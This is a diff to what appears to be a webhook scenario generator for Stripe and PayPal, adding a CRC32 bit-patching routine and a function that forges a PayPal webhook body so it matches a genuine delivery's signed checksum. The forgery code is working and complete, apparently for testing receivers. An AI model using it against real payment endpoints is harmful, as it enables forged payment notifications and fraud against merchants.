@@ -209,6 +209,58 @@ class PayPalSigner:
         return self.certificate_pem
 
 
+def crc32_patch(data: bytes, offset: int, target: int) -> bytes:
+    """``data`` with its 4 bytes at ``offset`` replaced so that its CRC32 is ``target``. CRC32 is
+    affine over GF(2): flipping one bit of the patch flips a fixed set of bits of the checksum, so
+    the 32 patch bits that give the wanted difference solve one linear system (an XOR basis)."""
+    size = len(data)
+    zeros = zlib.crc32(bytes(size))
+
+    def effect(bit: int) -> int:
+        flipped = bytearray(size)
+        flipped[offset + bit // 8] = 1 << (bit % 8)
+        return zlib.crc32(bytes(flipped)) ^ zeros
+
+    base = bytearray(data)
+    base[offset:offset + 4] = bytes(4)
+    wanted = zlib.crc32(bytes(base)) ^ target
+    basis: list[tuple[int, int]] = []  # (checksum effect, patch bits): distinct leading bits, descending
+    for bit in range(32):
+        vector, combination = effect(bit), 1 << bit
+        for pivot, pivot_bits in basis:
+            if vector ^ pivot < vector:
+                vector, combination = vector ^ pivot, combination ^ pivot_bits
+        if vector:
+            basis = sorted([*basis, (vector, combination)], reverse=True)
+    patch = 0
+    for pivot, pivot_bits in basis:
+        if wanted ^ pivot < wanted:
+            wanted, patch = wanted ^ pivot, patch ^ pivot_bits
+    if wanted:
+        raise ValueError("no 4-byte patch reaches that checksum")  # CRC32's 32 patch bits reach every one
+    base[offset:offset + 4] = patch.to_bytes(4, "little")
+    return bytes(base)
+
+
+_JSON_TEXT = set(range(0x20, 0x7F)) - {ord('"'), ord("\\")}
+
+
+def crc32_collision(genuine: bytes, forged_event: dict[str, Any]) -> bytes:
+    """What someone holding one genuine PayPal delivery can send under its headers: a JSON body that
+    says ``forged_event`` with ``genuine``'s CRC32 (PayPal signs the CRC32, not the bytes). The 4
+    patch bytes sit at the end of its ``summary`` text, after a counter that is tried until they are
+    printable JSON characters (1 try in ~60)."""
+    target = zlib.crc32(genuine)
+    for attempt in range(100_000):
+        event = {**forged_event, "summary": f"{forged_event.get('summary', '')} {attempt:05d}@@@@"}
+        text = json.dumps(event, separators=(",", ":")).encode()
+        offset = text.index(b"@@@@")
+        forged = crc32_patch(text, offset, target)
+        if all(b in _JSON_TEXT for b in forged[offset:offset + 4]):
+            return forged
+    raise ValueError("no printable patch found")
+
+
 # ----- payloads -----------------------------------------------------------------------------------
 
 STRIPE_STATUS = {
@@ -307,7 +359,7 @@ def scenario(*, count: int, stripe_secret: str, paypal: PayPalSigner, gate_keys:
                 event_id = f"WH-{id_prefix.upper()}{serial:06d}{step}"
                 body = paypal_event(event_id, event_type, capture, amount, "USD", vendor, f"PAYER{serial}", when)
                 headers = {"Content-Type": "application/json",
-                           **paypal.headers(body, f"tx-{serial:06d}-{step}", when)}
+                           **paypal.headers(body, f"tx-{id_prefix}-{serial:06d}-{step}", when)}
                 status = {"PAYMENT.CAPTURE.PENDING": "pending", "PAYMENT.CAPTURE.COMPLETED": "succeeded",
                           "PAYMENT.CAPTURE.DENIED": "failed"}[event_type]
                 steps.append(WebhookRequest("paypal", "/webhooks/paypal", {**headers, "X-Webhook-Key": gate_keys["paypal"]},
